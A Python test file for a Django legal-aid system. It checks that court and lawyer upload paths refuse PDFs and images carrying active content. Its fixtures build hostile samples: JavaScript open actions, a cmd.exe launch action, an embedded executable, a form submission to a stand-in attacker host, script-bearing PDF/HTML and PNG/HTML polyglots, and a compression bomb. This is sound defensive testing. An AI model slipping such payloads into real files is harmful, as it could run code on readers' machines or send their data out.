"""Uploads with active content are refused, saying what was found (legalaid.pdfcheck): PDFs with
JavaScript (also as /OpenAction, also with names written in #xx escapes, also inside a compressed
object stream), launch actions, embedded files, rich media, XFA forms, additional actions or form
submission; and files that are also web pages (PDF/HTML and image/HTML polyglots). Every upload path
goes through one check (cases.services.check_upload): the court's documents (API) and the lawyer's
work files (API and page). Plain PDFs, and the letters the system itself prints, pass."""
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from assignments.tests.test_work_pages import local
from assignments.tests.work import PDF, at, designated_case, iso, log_files
from assignments.work.models import WorkDocument, WorkLogEntry
from cases.models import Document
from cases.tests.factories import receive
from conftest import token_client
from legalaid.pdfcheck import active_content


def pdf(*objects: bytes) -> bytes:
    body = b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, o) for n, o in enumerate(objects, start=1))
    return body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"


def object_stream(inner: bytes) -> bytes:
    packed = zlib.compress(b"3 0 " + inner)
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed), packed)


HOSTILE = {
    "openaction_js": pdf(CATALOG % b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", PAGES),
    "escaped_name": pdf(CATALOG % b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>", PAGES),
    "launch": pdf(CATALOG % b"/OpenAction << /S /Launch /F (cmd.exe) >>", PAGES),
    "embedded_file": pdf(CATALOG % b"/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >>", PAGES),
    "rich_media": pdf(CATALOG % b"", PAGES, b"<< /Type /Annot /Subtype /RichMedia >>"),
    "xfa": pdf(CATALOG % b"/AcroForm << /XFA 3 0 R >>", PAGES),
    "additional_actions": pdf(CATALOG % b"/AA << /WC 3 0 R >>", PAGES),
    "submit_form": pdf(CATALOG % b"", PAGES, b"<< /S /SubmitForm /F (http://evil.example/) >>"),
    "js_in_object_stream": pdf(CATALOG % b"", PAGES, object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    "pdf_html_polyglot": b"%PDF-1.4\n%<html><body><script>alert(document.cookie)</script></body></html>\n" + PDF[9:],
    "png_html_polyglot": b"\x89PNG\r\n\x1a\n" + b"\0" * 32 + b"<script>alert(1)</script>",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_the_check_finds_it(name):
    content = HOSTILE[name]
    assert active_content(content, is_pdf=content.startswith(b"%PDF"))


def test_plain_pdfs_pass():
    assert active_content(PDF, is_pdf=True) == []
    plain = pdf(CATALOG % b"/OpenAction [3 0 R /Fit]", PAGES, object_stream(b"<< /Type /Page /Contents 4 0 R >>"))
    assert active_content(plain, is_pdf=True) == []


def test_a_compressed_bomb_is_inflated_only_so_far(monkeypatch):
    from legalaid import pdfcheck

    monkeypatch.setattr(pdfcheck, "MAX_INFLATED", 1024 * 1024)
    bomb = pdf(CATALOG % b"", PAGES, object_stream(b" " * (50 * 1024 * 1024) + b"/JavaScript"))
    assert len(bomb) < 100 * 1024
    assert pdfcheck.active_content(bomb, is_pdf=True) == []  # the script lies past the bound: not read


@pytest.fixture
def uploads(settings, tmp_path):
    settings.STORAGES = {**settings.STORAGES, "default": {
        "BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": str(tmp_path)}}}
    return tmp_path


@pytest.mark.parametrize("name", ["openaction_js", "pdf_html_polyglot", "js_in_object_stream", "png_html_polyglot"])
def test_the_courts_document_upload_refuses_it_with_the_reason(court_client, world, uploads, name):
    notice = receive(world)
    response = court_client.post(f"/api/v1/notices/{notice.pk}/documents/",
                                 {"kind": "indictment", "file": SimpleUploadedFile("起诉书.pdf", HOSTILE[name])},
                                 format="multipart")
    assert response.status_code == 400, response.content
    (error,) = response.json()["errors"]
    assert (error["field"], error["code"]) == ("file", "active_content")
    assert ("JavaScript" in error["message"]) or ("HTML" in error["message"])
    assert not Document.objects.exists()
    assert not any(p.is_file() for p in uploads.rglob("*"))


def test_the_courts_plain_pdf_is_still_accepted(court_client, world, uploads):
    notice = receive(world)
    response = court_client.post(f"/api/v1/notices/{notice.pk}/documents/",
                                 {"kind": "indictment", "file": SimpleUploadedFile("起诉书.pdf", PDF)}, format="multipart")
    assert response.status_code == 201


def test_the_lawyers_work_file_is_refused_on_the_api(world, uploads):
    case = designated_case(world)
    response = log_files(token_client(case.user), case.notice, "written_opinion",
                         [("意见.pdf", HOSTILE["launch"])], started_at=iso(at(case, days=6)))
    assert response.status_code == 400, response.content
    (error,) = response.json()["errors"]
    assert (error["field"], error["code"]) == ("files", "active_content")
    assert not WorkLogEntry.objects.exists() and not WorkDocument.objects.exists()


def test_the_lawyers_work_file_is_refused_on_the_page(world, uploads):
    case = designated_case(world)
    client = Client()
    client.force_login(case.user)
    response = client.post(f"/lawyer/cases/{case.notice.pk}/log/written_opinion/",
                           {"started_at": local(at(case, days=3)), "notes": "无罪辩护",
                            "files": SimpleUploadedFile("意见.pdf", HOSTILE["embedded_file"])})
    assert response.status_code == 400
    error = response.context["form"].errors.as_data()["files"][0]
    assert error.code == "active_content"
    assert not WorkLogEntry.objects.exists() and not WorkDocument.objects.exists()


def test_the_systems_own_letter_passes_the_check(world, court_client):
    from assignments.tests import factories as f

    notice = f.notice(world)
    f.designate(world, notice, f.lawyer(world))
    letter = court_client.get(f"/api/v1/notices/{notice.pk}/letter.pdf")
    assert letter.status_code == 200 and letter.content.startswith(b"%PDF")
    assert active_content(letter.content, is_pdf=True) == []
